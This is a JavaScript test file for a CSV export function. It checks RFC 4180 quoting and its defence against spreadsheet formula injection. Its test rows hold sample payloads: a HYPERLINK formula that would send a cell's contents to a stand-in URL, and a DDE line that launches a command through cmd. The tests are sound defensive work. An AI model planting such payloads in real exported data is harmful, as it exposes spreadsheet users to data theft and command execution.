// toCsv of web/runtime/export.js: RFC 4180 quoting, numbers as written, and text a
// spreadsheet would take for a formula (OWASP's CSV injection list) read as text.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { toCsv } from '../../web/runtime/export.js';

const lines = (csv) => csv.split('\r\n').slice(0, -1);

test('toCsv: a text cell beginning with = + - @, tab or carriage return gets a leading quote', () => {
  const rows = [
    ['=HYPERLINK("https://example.com/?x="&A1,"click")'],
    ['+1+cmd|\' /C calc\'!A0'],
    ['-2+3'],
    ['@SUM(A1:A2)'],
    ['\t=1+1'],
    ['\r=1+1'],
    ['-'],
    ['=1'],
  ];
  assert.deepEqual(lines(toCsv(['sentence'], rows)), [
    'sentence',
    '"\'=HYPERLINK(""https://example.com/?x=""&A1,""click"")"',
    '\'+1+cmd|\' /C calc\'!A0',
    '\'-2+3',
    '\'@SUM(A1:A2)',
    '\'\t=1+1',
    '"\'\r=1+1"',
    '\'-',
    '\'=1',
  ]);
});

test('toCsv: numbers stay numbers, negative ones included; plain numeric text is not prefixed', () => {
  assert.equal(toCsv(['x', 'y', 'z'], [[-0.25, 0.5, -1e-7], [-Infinity, Infinity, NaN], ['-0.25', '+3', '-1.5e-3']]),
    'x,y,z\r\n-0.25,0.5,-1e-7\r\n-Infinity,Infinity,NaN\r\n-0.25,+3,-1.5e-3\r\n');
});

test('toCsv: ordinary text is unchanged; a formula character later in the cell is harmless', () => {
  assert.equal(toCsv(['a', 'b'], [['How old are you?', 'a = b'], ['x-1', 'mail@example.com'], ['say "hi", then', null]]),
    'a,b\r\nHow old are you?,a = b\r\nx-1,mail@example.com\r\n"say ""hi"", then",\r\n');
});

test('toCsv: the header row is escaped too', () => {
  assert.equal(lines(toCsv(['=cmd', '@x'], []))[0], '\'=cmd,\'@x');
});

test('toCsv: a cell beginning with a full-width ＝ ＋ － ＠ gets a leading quote, as its ASCII form does', () => {
  const rows = [['＝HYPERLINK("https://example.com","x")'], ['＋1+1'], ['－1+1'], ['＠SUM(A1:A2)'], ['\t＝1'], ['\r＋1'], ['－１'], ['a＝b']];
  assert.deepEqual(lines(toCsv(['cell'], rows)), [
    'cell',
    '"\'＝HYPERLINK(""https://example.com"",""x"")"',
    '\'＋1+1',
    '\'－1+1',
    '\'＠SUM(A1:A2)',
    '\'\t＝1',
    '"\'\r＋1"',
    '\'－１',  // full-width digits are not a plain number: the cell stays text
    'a＝b',
  ]);
});
